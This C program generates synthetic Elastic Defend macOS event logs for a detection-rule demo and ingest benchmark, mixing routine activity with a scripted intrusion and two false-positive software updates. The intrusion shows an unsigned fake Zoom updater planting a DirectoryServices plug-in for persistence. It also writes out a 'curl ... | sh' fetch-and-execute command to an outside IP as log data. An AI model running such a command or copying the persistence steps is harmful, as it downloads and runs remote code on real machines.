/* gen-events: writes deterministic, realistic Elastic Defend macOS events as NDJSON.
 *
 *   gen-events [--events N] [--hosts H] [--seed S] [--start ISO8601] [--small]
 *
 * A fleet of H Macs runs ordinary software (process fork/exec/end, file writes, renames,
 * deletions, network connections), with entity ids, ancestry and code signatures as Elastic
 * Defend writes them. Woven in is the demo's story:
 *   - on the first host, an unsigned "installer" downloaded by the user moves a .dsplug
 *     bundle into /Library/DirectoryServices/PlugIns/, writes the binary inside it, restarts
 *     the plug-in helper with launchctl, and the helper's child calls out to the internet;
 *   - on two other hosts, Apple-signed software updates write plug-ins in the same folder
 *     (the false positives the rule's guide warns about).
 * The same arguments always give the same bytes. */
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static uint64_t rng_state = 0x9E3779B97F4A7C15u;

static uint64_t rnd(void)
{
	uint64_t x = rng_state;
	x ^= x >> 12, x ^= x << 25, x ^= x >> 27;
	rng_state = x;
	return x * 0x2545F4914F6CDD1Du;
}

static unsigned pick(unsigned n)
{
	return (unsigned)(rnd() % n);
}

static void uuid(char out[37])
{
	uint64_t a = rnd(), b = rnd();
	snprintf(out, 37, "%08x-%04x-4%03x-a%03x-%012" PRIx64, (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xFFFF,
	         (unsigned)a & 0xFFF, (unsigned)(b >> 48) & 0xFFF, b & 0xFFFFFFFFFFFFu);
}

static void hexstr(char *out, int nbytes)
{
	for (int i = 0; i < nbytes; i++)
		snprintf(out + 2 * i, 3, "%02x", (unsigned)pick(256));
}

static void base64(const char *in, char *out)
{
	static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(in), o = 0;
	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned char)in[i] << 16;
		if (i + 1 < n)
			v |= (unsigned char)in[i + 1] << 8;
		if (i + 2 < n)
			v |= (unsigned char)in[i + 2];
		out[o++] = tbl[(v >> 18) & 63];
		out[o++] = tbl[(v >> 12) & 63];
		out[o++] = i + 1 < n ? tbl[(v >> 6) & 63] : '=';
		out[o++] = i + 2 < n ? tbl[v & 63] : '=';
	}
	out[o] = '\0';
}

struct signer {
	const char *subject, *team, *status;
	int exists, trusted;
};

static const struct signer APPLE = {"Software Signing", "", "trusted", 1, 1};
static const struct signer UNSIGNED = {"", "", "errorCodeSignature", 0, 0};

struct program {
	const char *exe, *name, *signing_id, *args;
	const struct signer *sig;
};

static const struct signer DEVS[] = {
    {"Developer ID Application: Google LLC (EQHXZ8M8AV)", "EQHXZ8M8AV", "trusted", 1, 1},
    {"Developer ID Application: Microsoft Corporation (UBF8T346G9)", "UBF8T346G9", "trusted", 1, 1},
    {"Developer ID Application: Slack Technologies, Inc. (BQR82RBBHL)", "BQR82RBBHL", "trusted", 1, 1},
};

static const struct program PROGRAMS[] = {
    {"/bin/zsh", "zsh", "com.apple.zsh", "-zsh", &APPLE},
    {"/usr/bin/git", "git", "com.apple.git", "git status", &APPLE},
    {"/bin/ls", "ls", "com.apple.ls", "ls -la", &APPLE},
    {"/usr/bin/curl", "curl", "com.apple.curl", "curl -fsSL https://updates.example.com/feed", &APPLE},
    {"/usr/sbin/mdworker_shared", "mdworker_shared", "com.apple.mdworker_shared", "mdworker_shared -s mdworker",
     &APPLE},
    {"/usr/libexec/xpcproxy", "xpcproxy", "com.apple.xpc.proxy", "xpcproxy com.apple.Safari", &APPLE},
    {"/usr/bin/python3", "python3", "com.apple.python3", "python3 report.py", &APPLE},
    {"/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "Finder", "com.apple.finder", "Finder", &APPLE},
    {"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "Google Chrome", "com.google.Chrome",
     "Google Chrome --type=renderer", &DEVS[0]},
    {"/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook", "Microsoft Outlook",
     "com.microsoft.Outlook", "Microsoft Outlook", &DEVS[1]},
    {"/Applications/Slack.app/Contents/MacOS/Slack", "Slack", "com.tinyspeck.slackmacgap", "Slack", &DEVS[2]},
};
#define NPROGRAMS (sizeof(PROGRAMS) / sizeof(PROGRAMS[0]))

static void background_path(char *out, size_t n, const char *user, unsigned x)
{
	switch (pick(6)) {
	case 0: snprintf(out, n, "/Users/%s/Library/Caches/com.google.Chrome/Cache_Data/f_%06x", user, x); break;
	case 1: snprintf(out, n, "/Users/%s/Documents/notes-%x.txt", user, x); break;
	case 2: snprintf(out, n, "/Users/%s/Library/Application Support/Slack/Cache/%x", user, x); break;
	case 3: snprintf(out, n, "/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/T/tmp.%x", x); break;
	case 4: snprintf(out, n, "/Users/%s/Library/Preferences/com.apple.finder.plist.%x", user, x); break;
	default: snprintf(out, n, "/private/tmp/.%x.lock", x); break;
	}
}

struct host {
	char id[37], agent[37], name[40], user[16], ip[16];
	unsigned uid;
	char shell_entity[96];
	uint64_t seq;
	unsigned next_pid;
};

struct proc {
	const struct program *prog;
	const char *args;
	unsigned pid, ppid;
	char entity[96], parent_entity[96];
	const char *parent_exe, *parent_name;
};

static const char *const CITIES[] = {"lisbon", "oslo", "austin", "pune", "lyon", "osaka", "quito", "perth"};
static const char *const USERS[] = {"amara", "bjorn", "chen", "dara", "eli", "farah", "gus", "hana"};

static int64_t now_us;
static char *out;
static size_t out_len, out_cap;

static void emit(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

#include <stdarg.h>
static void emit(const char *fmt, ...)
{
	va_list ap;
	for (;;) {
		va_start(ap, fmt);
		int n = vsnprintf(out + out_len, out_cap - out_len, fmt, ap);
		va_end(ap);
		if ((size_t)n < out_cap - out_len) {
			out_len += (size_t)n;
			return;
		}
		out_cap = out_cap * 2 + (size_t)n;
		out = realloc(out, out_cap);
		if (!out)
			abort();
	}
}

static void iso(int64_t us, char buf[40])
{
	time_t s = (time_t)(us / 1000000);
	struct tm tm;
	gmtime_r(&s, &tm);
	size_t n = strftime(buf, 40, "%Y-%m-%dT%H:%M:%S", &tm);
	snprintf(buf + n, 40 - n, ".%06dZ", (int)(us % 1000000));
}

static void entity_id(const struct host *h, unsigned pid, char out_id[96])
{
	char raw[96];
	snprintf(raw, sizeof(raw), "%s-%u-%" PRId64 ".%06u", h->agent, pid, now_us / 1000000, pick(1000000));
	base64(raw, out_id);
}

/* --small: ECS events of about 1.2 KB (another shipper's shape: no agent, data_stream or ecs
 * objects, a short host), for the ingest benchmark's second shape */
static int small;

static void emit_common_head(struct host *h, const char *dataset, const char *category, const char *type,
                             const char *action, const char *message)
{
	char ts[40], ing[40], evid[37];
	iso(now_us, ts);
	iso(now_us + 20000000 + (int64_t)pick(60000000), ing);
	uuid(evid);
	if (small) {
		emit("{\"@timestamp\":\"%s\",\"agent\":{\"id\":\"%s\",\"type\":\"endpoint\"},\"event\":{\"action\":\"%"
		     "s\","
		     "\"category\":[\"%s\"],\"created\":\"%s\",\"dataset\":\"endpoint.events.%s\",\"id\":\"%s\","
		     "\"kind\":\"event\",\"type\":[\"%s\"]},\"host\":{\"id\":\"%s\",\"name\":\"%s\",\"os\":{\"type\":"
		     "\"macos\"}},",
		     ts, h->agent, action, category, ts, dataset, evid, type, h->id, h->name);
		(void)message;
		return;
	}
	emit("{\"@timestamp\":\"%s\",\"agent\":{\"id\":\"%s\",\"type\":\"endpoint\",\"version\":\"8.15.2\"},"
	     "\"data_stream\":{\"dataset\":\"endpoint.events.%s\",\"namespace\":\"default\",\"type\":\"logs\"},"
	     "\"ecs\":{\"version\":\"8.11.0\"},\"elastic\":{\"agent\":{\"id\":\"%s\"}},"
	     "\"event\":{\"action\":\"%s\",\"category\":[\"%s\"],\"created\":\"%s\",\"dataset\":\"endpoint.events.%s\","
	     "\"id\":\"%s\",\"ingested\":\"%s\",\"kind\":\"event\",\"module\":\"endpoint\",\"outcome\":\"success\","
	     "\"sequence\":%" PRIu64 ",\"type\":[\"%s\"]},"
	     "\"host\":{\"architecture\":\"arm64\",\"hostname\":\"%s\",\"id\":\"%s\",\"ip\":[\"%s\",\"fe80::1\"],"
	     "\"name\":\"%s\",\"os\":{\"Ext\":{\"variant\":\"macOS\"},\"family\":\"macos\",\"full\":\"macOS 14.6.1\","
	     "\"kernel\":\"23.6.0\",\"name\":\"macOS\",\"platform\":\"macos\",\"type\":\"macos\",\"version\":\"14.6."
	     "1\"}},"
	     "\"message\":\"%s\",",
	     ts, h->agent, dataset, h->agent, action, category, ts, dataset, evid, ing, ++h->seq, type, h->name, h->id,
	     h->ip, h->name, message);
}

static void emit_process_fields(const struct proc *p, const char *ancestry)
{
	const struct signer *s = p->prog->sig;
	char sha[65];
	hexstr(sha, 32);
	if (small) {
		emit("\"process\":{\"args\":[\"%s\"],\"code_signature\":{\"subject_name\":\"%s\",\"trusted\":%s},"
		     "\"command_line\":\"%s\",\"entity_id\":\"%s\",\"executable\":\"%s\",\"hash\":{\"sha256\":\"%s\"},"
		     "\"name\":\"%s\",\"parent\":{\"entity_id\":\"%s\",\"executable\":\"%s\",\"name\":\"%s\",\"pid\":%"
		     "u},"
		     "\"pid\":%u}",
		     p->prog->exe, s->subject, s->trusted ? "true" : "false", p->args, p->entity, p->prog->exe, sha,
		     p->prog->name, p->parent_entity, p->parent_exe, p->parent_name, p->ppid, p->pid);
		(void)ancestry;
		return;
	}
	emit("\"process\":{\"Ext\":{\"ancestry\":[%s]},\"args\":[\"%s\"],\"args_count\":1,"
	     "\"code_signature\":{\"exists\":%s,\"signing_id\":\"%s\",\"status\":\"%s\",\"subject_name\":\"%s\","
	     "\"team_id\":\"%s\",\"trusted\":%s},\"command_line\":\"%s\",\"entity_id\":\"%s\",\"executable\":\"%s\","
	     "\"hash\":{\"sha256\":\"%s\"},\"name\":\"%s\",\"parent\":{\"entity_id\":\"%s\",\"executable\":\"%s\","
	     "\"name\":\"%s\",\"pid\":%u},\"pid\":%u}",
	     ancestry, p->prog->exe, s->exists ? "true" : "false", s->exists ? p->prog->signing_id : "", s->status,
	     s->subject, s->team, s->trusted ? "true" : "false", p->args, p->entity, p->prog->exe, sha, p->prog->name,
	     p->parent_entity, p->parent_exe, p->parent_name, p->ppid, p->pid);
}

static void emit_user(const struct host *h, int root)
{
	if (small) {
		emit(",\"user\":{\"id\":%u,\"name\":\"%s\"}}\n", root ? 0 : h->uid, root ? "root" : h->user);
		return;
	}
	emit(",\"user\":{\"Ext\":{\"real\":{\"id\":%u,\"name\":\"%s\"}},\"id\":%u,\"name\":\"%s\"},"
	     "\"group\":{\"id\":20,\"name\":\"staff\"}}\n",
	     root ? 0 : h->uid, root ? "root" : h->user, root ? 0 : h->uid, root ? "root" : h->user);
}

static void ancestry_of(const struct proc *p, char *buf, size_t n)
{
	snprintf(buf, n, "\"%s\"", p->parent_entity);
}

static void spawn(struct host *h, struct proc *p, const struct program *prog, const char *args,
                  const char *parent_entity, const char *parent_exe, const char *parent_name, unsigned ppid)
{
	p->prog = prog;
	p->args = args ? args : prog->args;
	p->pid = h->next_pid++;
	p->ppid = ppid;
	entity_id(h, p->pid, p->entity);
	snprintf(p->parent_entity, sizeof(p->parent_entity), "%s", parent_entity);
	p->parent_exe = parent_exe;
	p->parent_name = parent_name;
}

static void process_event(struct host *h, const struct proc *p, const char *action, int root)
{
	const char *type = !strcmp(action, "exec") ? "start" : !strcmp(action, "end") ? "end" : "start";
	char anc[256];
	emit_common_head(h, "process", "process", type, action, "Endpoint process event");
	ancestry_of(p, anc, sizeof(anc));
	emit_process_fields(p, anc);
	emit_user(h, root);
}

static void file_event(struct host *h, const struct proc *p, const char *action, const char *path, const char *original,
                       int root)
{
	const char *type = !strcmp(action, "deletion") ? "deletion" : !strcmp(action, "rename") ? "change" : "change";
	const char *name = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
	const char *dot = strrchr(name, '.');
	char anc[256], sha[65];
	emit_common_head(h, "file", "file", type, action, "Endpoint file event");
	hexstr(sha, 32);
	emit("\"file\":{");
	if (original)
		emit("\"Ext\":{\"original\":{\"path\":\"%s\"}},", original);
	emit("\"extension\":\"%s\",\"hash\":{\"sha256\":\"%s\"},\"inode\":%u,\"name\":\"%s\",\"path\":\"%s\",\"size\":%"
	     "u},",
	     dot ? dot + 1 : "", sha, 1000000 + pick(9000000), name, path, 512 + pick(200000));
	ancestry_of(p, anc, sizeof(anc));
	emit_process_fields(p, anc);
	emit_user(h, root);
}

static void network_event(struct host *h, const struct proc *p, const char *ip, unsigned port, int root)
{
	char anc[256];
	emit_common_head(h, "network", "network", "start", "connection_attempted", "Endpoint network event");
	emit("\"destination\":{\"address\":\"%s\",\"ip\":\"%s\",\"port\":%u},\"network\":{\"direction\":\"egress\","
	     "\"transport\":\"tcp\",\"type\":\"ipv4\"},\"source\":{\"address\":\"%s\",\"ip\":\"%s\",\"port\":%u},",
	     ip, ip, port, h->ip, h->ip, 49152 + pick(16000));
	ancestry_of(p, anc, sizeof(anc));
	emit_process_fields(p, anc);
	emit_user(h, root);
}

static void background_event(struct host *h)
{
	static char paths[4][256];
	static unsigned which;
	struct proc p;
	const struct program *prog = &PROGRAMS[pick(NPROGRAMS)];
	spawn(h, &p, prog, NULL, h->shell_entity, "/bin/zsh", "zsh", 400 + pick(50));
	unsigned r = pick(100);
	if (r < 22) {
		process_event(h, &p, "fork", 0);
	} else if (r < 45) {
		process_event(h, &p, "exec", 0);
	} else if (r < 55) {
		process_event(h, &p, "end", 0);
	} else if (r < 88) {
		char *path = paths[which++ % 4];
		background_path(path, 256, h->user, pick(0xFFFFFF));
		unsigned a = pick(10);
		file_event(h, &p, a < 6 ? "modification" : a < 8 ? "deletion" : "open", path, NULL, 0);
	} else {
		char ip[32];
		snprintf(ip, sizeof(ip), "142.250.%u.%u", pick(255), 1 + pick(254));
		network_event(h, &p, ip, 443, 0);
	}
}

/* The attack: an unsigned installer plants a DirectoryService plug-in and restarts its loader. */
static void story_attack(struct host *h)
{
	static const struct program installer = {
	    "/Users/amara/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate", "ZoomUpdate", "",
	    "/Users/amara/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate --silent", &UNSIGNED};
	static const struct program mv = {"/bin/mv", "mv", "com.apple.mv",
	                                  "mv /private/tmp/.zu/CoreSync.dsplug /Library/DirectoryServices/PlugIns/",
	                                  &APPLE};
	static const struct program launchctl = {"/bin/launchctl", "launchctl", "com.apple.xpc.launchctl",
	                                         "launchctl kickstart -k system/com.apple.dspluginhelperd", &APPLE};
	static const struct program helper = {"/usr/libexec/dspluginhelperd", "dspluginhelperd",
	                                      "com.apple.dspluginhelperd", "/usr/libexec/dspluginhelperd", &APPLE};
	static const struct program sh = {"/bin/sh", "sh", "com.apple.sh",
	                                  "/bin/sh -c curl -s http://203.0.113.77/k | sh", &APPLE};
	struct proc inst, m, l, hp, s;
	spawn(h, &inst, &installer, NULL, h->shell_entity,
	      "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "Finder", 388);
	process_event(h, &inst, "exec", 0);
	now_us += 800000;
	file_event(h, &inst, "modification", "/private/tmp/.zu/CoreSync.dsplug/Contents/MacOS/CoreSync", NULL, 1);
	now_us += 150000;
	file_event(h, &inst, "modification", "/private/tmp/.zu/CoreSync.dsplug/Contents/Info.plist", NULL, 1);
	now_us += 400000;
	spawn(h, &m, &mv, NULL, inst.entity, installer.exe, installer.name, inst.pid);
	process_event(h, &m, "exec", 1);
	now_us += 20000;
	file_event(h, &m, "rename", "/Library/DirectoryServices/PlugIns/CoreSync.dsplug",
	           "/private/tmp/.zu/CoreSync.dsplug", 1);
	now_us += 300000;
	file_event(h, &inst, "modification",
	           "/Library/DirectoryServices/PlugIns/CoreSync.dsplug/Contents/MacOS/CoreSync", NULL, 1);
	now_us += 500000;
	spawn(h, &l, &launchctl, NULL, inst.entity, installer.exe, installer.name, inst.pid);
	process_event(h, &l, "exec", 1);
	now_us += 1200000;
	spawn(h, &hp, &helper, NULL, "", "/sbin/launchd", "launchd", 1);
	snprintf(hp.parent_entity, sizeof(hp.parent_entity), "%s", h->shell_entity);
	process_event(h, &hp, "exec", 1);
	now_us += 2500000;
	spawn(h, &s, &sh, NULL, hp.entity, helper.exe, helper.name, hp.pid);
	process_event(h, &s, "exec", 1);
	now_us += 300000;
	network_event(h, &s, "203.0.113.77", 80, 1);
}

/* The false positive: an Apple-signed software update writes a plug-in in the same folder. */
static void story_update(struct host *h)
{
	static const struct program su = {"/usr/sbin/installer", "installer", "com.apple.installer",
	                                  "installer -pkg /Library/Updates/041-8822/ODSupport.pkg -target /", &APPLE};
	struct proc p;
	spawn(h, &p, &su, NULL, h->shell_entity,
	      "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", "softwareupdated",
	      312);
	process_event(h, &p, "exec", 1);
	now_us += 900000;
	file_event(h, &p, "modification", "/Library/DirectoryServices/PlugIns/NiPlugin.dsplug", NULL, 1);
	now_us += 40000;
	file_event(h, &p, "modification", "/Library/DirectoryServices/PlugIns/NiPlugin.dsplug/Contents/MacOS/NiPlugin",
	           NULL, 1);
}

static int parse_start(const char *s, int64_t *us)
{
	struct tm tm = {0};
	if (sscanf(s, "%d-%d-%dT%d:%d:%d", &tm.tm_year, &tm.tm_mon, &tm.tm_mday, &tm.tm_hour, &tm.tm_min, &tm.tm_sec) !=
	    6)
		return -1;
	tm.tm_year -= 1900;
	tm.tm_mon -= 1;
	*us = (int64_t)timegm(&tm) * 1000000;
	return 0;
}

int main(int argc, char **argv)
{
	unsigned long events = 2000, nhosts = 8;
	const char *start = "2026-11-20T08:00:00Z";
	for (int i = 1; i < argc; i++) {
		const char *value = i + 1 < argc ? argv[i + 1] : NULL;
		if (!strcmp(argv[i], "--small")) {
			small = 1;
			continue;
		}
		if (!value) {
			fprintf(stderr,
			        "usage: gen-events [--events N] [--hosts H] [--seed S] [--start ISO8601] [--small]\n");
			return 64;
		}
		i++;
		if (!strcmp(argv[i - 1], "--events"))
			events = strtoul(value, NULL, 10);
		else if (!strcmp(argv[i - 1], "--hosts"))
			nhosts = strtoul(value, NULL, 10);
		else if (!strcmp(argv[i - 1], "--seed"))
			rng_state ^= strtoull(value, NULL, 10) * 0x9E3779B97F4A7C15u;
		else if (!strcmp(argv[i - 1], "--start"))
			start = value;
		else {
			fprintf(stderr,
			        "usage: gen-events [--events N] [--hosts H] [--seed S] [--start ISO8601] [--small]\n");
			return 64;
		}
	}
	if (nhosts < 3 || parse_start(start, &now_us)) {
		fprintf(stderr, "gen-events: need at least 3 hosts and a start like 2026-11-20T08:00:00Z\n");
		return 64;
	}
	struct host *hosts = calloc(nhosts, sizeof(*hosts));
	for (unsigned long i = 0; i < nhosts; i++) {
		struct host *h = &hosts[i];
		uuid(h->id);
		uuid(h->agent);
		snprintf(h->name, sizeof(h->name), "mac-%s-%02lu", CITIES[i % 8], i + 1);
		snprintf(h->user, sizeof(h->user), "%s", USERS[i % 8]);
		snprintf(h->ip, sizeof(h->ip), "10.20.%lu.%lu", (i / 250) % 250, 10 + i % 240);
		h->uid = 501;
		h->next_pid = 600;
		entity_id(h, 401, h->shell_entity);
	}
	out_cap = 1 << 20;
	out = malloc(out_cap);
	unsigned long attack_at = events / 2, update1_at = events / 3, update2_at = (2 * events) / 3;
	for (unsigned long n = 0; n < events; n++) {
		now_us += 200000 + (int64_t)pick(2000000) / (nhosts > 50 ? 50 : (unsigned)nhosts);
		if (n == update1_at)
			story_update(&hosts[1 % nhosts]);
		if (n == attack_at)
			story_attack(&hosts[0]);
		if (n == update2_at)
			story_update(&hosts[2 % nhosts]);
		background_event(&hosts[pick((unsigned)nhosts)]);
		if (out_len > (1u << 20)) {
			fwrite(out, 1, out_len, stdout);
			out_len = 0;
		}
	}
	fwrite(out, 1, out_len, stdout);
	free(out);
	free(hosts);
	return ferror(stdout) ? 1 : 0;
}
